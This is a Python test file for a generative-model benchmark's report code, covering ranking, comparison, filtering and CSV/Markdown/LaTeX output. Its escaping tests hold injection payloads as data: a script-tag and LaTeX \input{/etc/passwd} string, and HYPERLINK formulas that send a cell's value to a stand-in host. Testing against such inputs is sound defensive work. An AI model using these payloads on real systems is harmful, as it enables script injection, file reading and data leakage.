"""What a report ranks, what it leaves out, and what it says of rows that are odd."""

import re
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from kod_bench.errors import UsageError
from kod_bench.reports import SweepOrigin, SweepReport, frame_of, make_content, read_frame
from kod_bench.reports.comparison import compare_sides, compare_with_published
from kod_bench.reports.content import MOST_SHOWN
from kod_bench.reports.filters import filter_rows
from kod_bench.reports.latex import to_latex
from kod_bench.reports.layout import comparison_table, difference_table
from kod_bench.reports.markdown import comparison_markdown, to_markdown
from kod_bench.reports.published import COLUMNS, all_published, read_published
from kod_bench.reports.tables import tables, write_tables
from kod_bench.results import Row, write_rows
from tests.rows import make_row

HOSTILE = "a|b <script>alert(1)</script> [x](http://e) $x_1$ \\input{/etc/passwd} %~^&# \n\x1b[31m"


def test_ours_and_published_are_never_in_one_ranking() -> None:
    content = make_content(frame_of([make_row(fid=1000.0)]), title="study")
    assert {number.dataset for number in content.published} == {"SOCOFing"}
    (cell,) = content.groups[0].cells
    assert cell.fid.is_best  # though every published FID is far lower
    labels = set(content.groups[0].cell_table["label"])
    assert labels == {"ddpm"}
    compared = compare_with_published("study", frame_of([make_row(fid=1000.0)]))
    assert compared.groups == ()
    assert "not ranked with ours" in comparison_markdown(compared)


def test_two_sweeps_with_other_extractors_or_counts_are_never_ranked_or_compared() -> None:
    ours = [make_row(sweep="a", seed=s, trial=f"a{s}") for s in range(7)]
    for change in ({"features": "inception"}, {"sample_count": 5000}):
        theirs = [make_row(sweep="b", seed=s, trial=f"b{s}", kid=0.1, **change) for s in range(7)]
        content = make_content(frame_of([*ours, *theirs]), title="both")
        assert [len(group.cells) for group in content.groups] == [1, 1]
        assert all(group.cells[0].kid.is_best for group in content.groups)
        compared = compare_sides("a", frame_of(ours), "b", frame_of(theirs))
        assert compared.groups == ()
        assert f"Nothing can be compared: {next(iter(change))} differs" in compared.notes[0]


def test_a_label_leaves_out_the_values_of_a_grid_that_its_groups_title_says() -> None:
    rows = [
        make_row(
            dataset=data,
            model=f"{name} dataset.name={data} strength=0.5",
            trial=f"{name}-{data}",
        )
        for data in ("xy", "angles:/my winds")
        for name in ("local", "ddpm dataset.image_size=32")
    ]
    content = make_content(frame_of(rows), title="study")
    assert [[cell.label for cell in group.cells] for group in content.groups] == 2 * [
        ["ddpm strength=0.5", "local strength=0.5"]
    ]
    assert content.groups[0].cells[0].base_model == "ddpm"


def spins(model: str, temperature: str, tail: str = "", **more: Any) -> Row:
    """A row of one temperature of a grid, which is in its model's name."""
    return make_row(
        dataset="xy",
        data_hash=f"at {temperature}",
        model=f"{model} dataset.xy.temperature={temperature}{tail}",
        trial=f"{model}-{temperature}{tail}-{more.get('seed', 0)}",
        **more,
    )


def test_a_title_says_what_all_models_of_a_group_say_of_the_data() -> None:
    """Two temperatures are two tables, which had one title."""
    rows = [
        spins(name, temperature, f" strength={strength}")
        for temperature in ("0.8", "1.0")
        for name in ("local", "global")
        for strength in (1, 2)
    ]
    content = make_content(frame_of(rows), title="study")
    assert sorted(group.title for group in content.groups) == [
        "xy, 32 px, xy.temperature=0.8",
        "xy, 32 px, xy.temperature=1.0",
    ]
    for group in content.groups:
        assert [cell.label for cell in group.cells] == [
            f"{name} strength={strength}" for name in ("global", "local") for strength in (1, 2)
        ]
    # What not all of a group say tells its cells apart: it stays where it was.
    (group,) = make_content(
        frame_of([make_row(model=f"local dataset.flip={way}", trial=way) for way in ("a", "b")]),
        title="study",
    ).groups
    assert group.title == "fingerprints-synthetic, 32 px"
    assert [cell.label for cell in group.cells] == ["local dataset.flip=a", "local dataset.flip=b"]


def test_tables_for_programs_say_the_title_that_labels_leave_out() -> None:
    rows = [
        spins(name, temperature, process=process, kind=kind, seed=seed)
        for temperature in ("0.8", "1.0")
        for name, process, kind in (
            ("local", "kuramoto", "structured"),
            ("ddpm", "ddpm", "euclidean"),
        )
        for seed in range(3)
    ]
    found = tables(make_content(frame_of(rows), title="study"))
    for table in (found["cells"], found["differences"]):
        assert set(table["title"]) == {f"xy, 32 px, xy.temperature={t}" for t in ("0.8", "1.0")}
        assert not table.duplicated(
            [name for name in ("title", "label", "other", "metric") if name in table]
        ).any()


def test_a_title_of_two_sides_says_what_both_say_of_the_data() -> None:
    sides = [
        frame_of([make_row(model=name, seed=seed, trial=f"{name}-{seed}") for seed in range(3)])
        for name in ("local dataset.flip=a", "local dataset.flip=b", "ddpm dataset.flip=a")
    ]
    for ours, theirs, title in ((0, 1, "32 px"), (1, 0, "32 px"), (0, 2, "32 px, flip=a")):
        (group,) = compare_sides("x", sides[ours], "y", sides[theirs]).groups
        assert group.title == f"fingerprints-synthetic, {title}"


def test_a_sweep_over_data_sets_and_one_of_a_single_one_are_compared_model_by_model() -> None:
    """The first has the data set in its models' names."""
    sides = [
        frame_of(
            [
                make_row(model=f"{name}{tail}", seed=seed, trial=f"{name}-{seed}", kid=kid + seed)
                for name, kid in (("local", 1.0), ("ddpm", 2.0))
                for seed in range(3)
            ]
        )
        for tail in (" dataset.name=fingerprints", "")
    ]
    (group,) = compare_sides("all", sides[0], "one", sides[1]).groups
    pairs = {(line.label.split(",")[0], line.other.split(",")[0]) for line in group.differences}
    assert pairs == {("local", "local"), ("ddpm", "ddpm")}


def test_two_sweeps_are_compared_model_by_model_on_shared_seeds() -> None:
    ours = [make_row(sweep="a", seed=s, kid=1.0 + s) for s in range(7)]
    theirs = [make_row(sweep="b", seed=s, kid=2.0 + s) for s in range(1, 9)]
    theirs += [make_row(sweep="b", model="other", seed=0, kid=0.1)]
    compared = compare_sides("a", frame_of(ours), "b", frame_of(theirs))
    (group,) = compared.groups
    kid = group.differences[0]
    assert (kid.estimate.mean, kid.estimate.count) == (-1.0, 6)
    assert "better in 1" in group.verdict[0]
    assert compared.notes == ("On one side only: other.",)


def test_published_numbers_all_have_source_confidence_and_differences() -> None:
    numbers = all_published()
    assert all(n.paper and n.source and n.confidence and n.differences for n in numbers)
    table = {(n.dataset, n.steps, n.model): n.value for n in numbers if n.source == "main table"}
    assert len(table) == 27
    assert table["SOCOFing", 100, "Kuramoto local"] == 67.49
    assert table["CIFAR-10", 1000, "SGM"] == 3.17
    assert {n.dataset for n in numbers} >= {"CelebA-128", "Brodatz", "Terrain"}


def test_a_published_file_that_is_wrong_is_one_line(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    path.write_text("a,b\n1,2\n")
    with pytest.raises(UsageError, match="line 1: columns must be family"):
        read_published(path)
    path.write_text(",".join(COLUMNS) + "\n,d,m,,FID,much,p,s,c,x\n")
    with pytest.raises(UsageError, match="line 2: could not convert"):
        read_published(path)


def test_hostile_text_stays_text_everywhere(tmp_path: Path) -> None:
    origin = SweepOrigin("s/1", "1", "laptop", 2, "", "0", failures=(("t", HOSTILE),))
    content = make_content(frame_of([make_row(model=HOSTILE)]), title=HOSTILE, sweeps=[origin])
    markdown = to_markdown(content)
    assert "<script>" not in markdown.replace("\\<script\\>", "")
    assert "\x1b" not in markdown
    assert "](http" not in markdown
    latex = to_latex(content)
    assert r"\input" not in latex.replace(r"\usepackage[utf8]{inputenc}", "")
    assert r"\textbackslash{}input\{/etc/passwd\}" in latex
    SweepReport(content, {}).write(tmp_path)
    assert pd.read_csv(tmp_path / "cells.csv")["model"][0] == HOSTILE
    assert pd.read_parquet(tmp_path / "cells.parquet")["model"][0] == HOSTILE


def test_pruned_and_repeated_rows_are_left_out_and_said(tmp_path: Path) -> None:
    rows = frame_of(
        [
            make_row(trial="old", kid=9.0),
            make_row(trial="new", kid=1.0, finished_at="2026-02-01T00:00:00+00:00"),
            make_row(trial="pruned", seed=1, kid=0.1),
        ]
    )
    rows.loc[2, "pruned_at"] = 50.0
    content = make_content(rows, title="study")
    (cell,) = content.groups[0].cells
    assert (cell.kid.estimate.mean, cell.trials) == (1.0, ("new",))
    assert {(e.rows, e.trials) for e in content.provenance.excluded} == {
        (1, ("pruned",)),
        (1, ("old",)),
    }
    assert "1 row is excluded: stopped early" in to_markdown(content)


def test_a_score_that_is_not_finite_is_not_ranked() -> None:
    content = make_content(frame_of([make_row(kid=float("nan")), make_row(model="b")]), title="x")
    nan, good = content.groups[0].cells[::-1]
    assert (nan.kid.estimate.mean, nan.kid.is_best, nan.is_ranked) == (None, False, False)
    assert good.kid.is_best
    assert "n/a" in to_markdown(content)
    assert "missing or not finite" in to_markdown(content)


def test_rows_of_an_older_version_lack_columns_and_are_read(tmp_path: Path) -> None:
    folder = tmp_path / "t"
    folder.mkdir()
    path = write_rows(folder, [make_row()])
    table = pq.read_table(path).drop_columns(["precision", "density", "git_dirty", "images_seen"])
    pq.write_table(table.append_column("unknown", pa.array([1])), path)
    (tmp_path / "broken.parquet").write_bytes(b"no")
    read = read_frame([path, tmp_path / "broken.parquet"])
    assert read.unreadable == [tmp_path / "broken.parquet"]
    content = make_content(read.rows, title="x")
    assert content.groups[0].cells[0].kid.estimate.mean == 2.0
    assert "| ddpm " in to_markdown(content)


def test_no_rows_make_a_report_that_says_so(tmp_path: Path) -> None:
    content = make_content(read_frame([]).rows, title="x")
    SweepReport(content, {}).write(tmp_path)
    assert "0 trials" in (tmp_path / "comparison.md").read_text()


def test_rows_of_other_code_are_said_to_be() -> None:
    rows = [make_row(), make_row(model="b", code_hash="0ther", git_commit="abc", git_dirty=True)]
    content = make_content(frame_of(rows), title="x")
    assert content.provenance.statements[0].startswith("Rows come from 2 versions of the code")
    assert "uncommitted" in content.provenance.statements[1]
    times = content.provenance.trials
    assert times["wall_seconds"].sum() == content.provenance.wall_seconds > 0
    assert content.provenance.accelerator_seconds == 0


def test_filters_choose_rows() -> None:
    rows = frame_of(
        [make_row(model=m, steps=s) for m in ("ddpm", "kuramoto-local") for s in (25, 100)]
    )
    assert len(filter_rows(rows, conditions=["model=kuramoto*"])) == 2
    assert len(filter_rows(rows, conditions=["steps>=50", "model != ddpm"])) == 1
    assert len(filter_rows(rows, ["fingerprints-synthetic"], ["git_dirty=true"])) == 0


@pytest.mark.parametrize(
    ("datasets", "condition", "message"),
    [
        ([], "model", "must be a column, one of"),
        ([], "modell=x", "no column 'modell'; choose from space, sweep"),
        ([], "steps=many", "steps is a number, 'many' is none"),
        ([], "model>a", "model is a text, which takes = or !="),
        ([], "git_dirty=2", "takes = or != and true or false"),
        (["cifar"], "steps>1", "no rows of it; there are fingerprints-synthetic"),
    ],
)
def test_a_wrong_filter_is_one_line(datasets: list[str], condition: str, message: str) -> None:
    with pytest.raises(UsageError, match=message) as error:
        filter_rows(frame_of([make_row()]), datasets, [condition])
    assert "\n" not in str(error.value)


def test_maps_of_the_sphere_have_their_spectra_ranked_and_compared() -> None:
    rows = [
        make_row(
            model=model,
            process=process,
            seed=seed,
            spectrum_distance=0.5 + seed / 100 + (model == "ddpm"),
            spectrum_distance_real=0.1,
        )
        for model, process in (("ddpm", "ddpm"), ("induced", "sphere"))
        for seed in range(8)
    ]
    content = make_content(frame_of(rows), title="x")
    (group,) = content.groups
    table = comparison_table(group)
    place = table.columns.index("Spectrum")
    real, ddpm, induced = ([cell.text for cell in line][place] for line in table.lines)
    assert real == "0.100"
    assert ddpm.startswith("1.535 [")
    assert induced.startswith("0.535 [")
    assert [line[place].bold for line in table.lines] == [False, False, True]
    assert any("induced has a spectrum distance 1 lower (better)" in s for s in group.verdict)
    plain = make_content(frame_of([make_row()]), title="x").groups[0]
    assert "Spectrum" not in comparison_table(plain).columns


def test_a_number_of_evaluations_without_a_score_leaves_the_others_ranked() -> None:
    rows = [
        make_row(network_evaluations=100, kid=1.0),
        make_row(network_evaluations=25, kid=float("nan")),
        make_row(network_evaluations=10, prior="forward"),
    ]
    best = [
        (cell.network_evaluations, cell.kid.is_best)
        for cell in make_content(frame_of(rows), title="x").groups[0].cells
    ]
    assert best == [(10, False), (25, False), (100, True)]


def test_table_and_sentences_agree_on_what_holm_has_decided() -> None:
    rows = [
        make_row(model=model, process=process, seed=seed, kid=kid - seed / 1000)
        for model, process, seeds, kid in (
            ("ddpm", "ddpm", 8, 2.0),
            ("a", "kuramoto", 8, 1.0),
            ("b", "kuramoto", 6, 1.1),
        )
        for seed in range(seeds)
    ]
    (group,) = make_content(frame_of(rows), title="x").groups
    says = [line[-1].text for line in difference_table(group.differences, "kid").lines]
    assert says == ["better", "better"]
    assert "better in 2" in group.verdict[0]
    assert not any("Not enough seeds" in sentence for sentence in group.verdict)


def test_samples_that_start_from_real_noise_are_not_compared_by_hand_either() -> None:
    def side(model: str, kid: float) -> pd.DataFrame:
        return frame_of(
            [
                make_row(model=model, seed=s, kid=kid + s / 100, prior=prior)
                for s in range(3)
                for prior in ("standard-normal", "forward")
            ]
        )

    (group,) = compare_sides("a", side("a", 1.0), "b", side("b", 2.0)).groups
    assert len([d for d in group.differences if d.metric == "kid"]) == 1


def test_models_compared_by_hand_say_that_their_steps_differ() -> None:
    def side(model: str, steps: int) -> pd.DataFrame:
        return frame_of([make_row(model=model, steps=steps, network_evaluations=25)])

    (group,) = compare_sides("a", side("a", 1000), "b", side("b", 100)).groups
    assert {(d.label, d.other) for d in group.differences} == {("a, T=1000", "b, T=100")}


def test_of_many_differences_the_clearest_are_shown_and_that_is_said() -> None:
    rows = [
        make_row(model=f"m{i:03}", process=process, seed=seed, kid=kid)
        for i in range(30)
        for process, kid in (("kuramoto", 3.0 - i / 100 + (i == 17) * -2), ("ddpm", 3.0 + i / 100))
        for seed in range(2)
    ]
    (group,) = make_content(frame_of(rows), title="x").groups
    shown = [d for d in group.differences if d.metric == "kid"]
    assert len(shown) == MOST_SHOWN < (group.difference_table["metric"] == "kid").sum()
    assert "m017" in {d.label.split(",")[0] for d in shown}
    assert any("differences, those" in note for note in group.notes)


def test_budgets_that_differ_are_not_called_equal() -> None:
    rows = [
        make_row(iterations=600, images_seen=600 * 32),
        make_row(model="b", iterations=1200, images_seen=1200 * 32),
    ]
    notes = " ".join(make_content(frame_of(rows), title="x").groups[0].notes)
    assert "Training images drawn: " in notes
    assert "equal iterations" not in notes


def test_a_row_without_a_seed_is_left_out_and_said() -> None:
    rows = frame_of([make_row(seed=0), make_row(seed=1)])
    rows["seed"] = [0.0, float("nan")]
    content = make_content(rows, title="x")
    assert content.groups[0].cells[0].seeds == (0,)
    assert content.provenance.excluded[0].reason == "its seed is not recorded"


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"])
def test_a_spreadsheet_computes_no_cell(tmp_path: Path, begins: str) -> None:
    name = f'{begins}HYPERLINK("http://e?"&A1)'
    rows = [make_row(model=name, seed=seed, kid=-1.5 - seed) for seed in range(3)]
    rows.append(make_row(model="plain", process="ddpm", kid=-1.0))
    write_tables(make_content(frame_of(rows), title="t"), tmp_path)
    found = pd.read_csv(tmp_path / "cells.csv")
    assert set(found["model"]) == {f"'{name}", "plain"}
    assert set(found["kid_mean"]) == {-2.5, -1.0}  # numbers stay numbers
    assert set(pd.read_parquet(tmp_path / "cells.parquet")["model"]) == {name, "plain"}
    for path in tmp_path.glob("*.csv"):
        for column in pd.read_csv(path, dtype=str, keep_default_na=False).itertuples(index=False):
            for cell in column:
                is_number = re.fullmatch(r"-?[0-9.e+-]+", cell)
                assert is_number or not cell.startswith(begins), (path.name, cell)
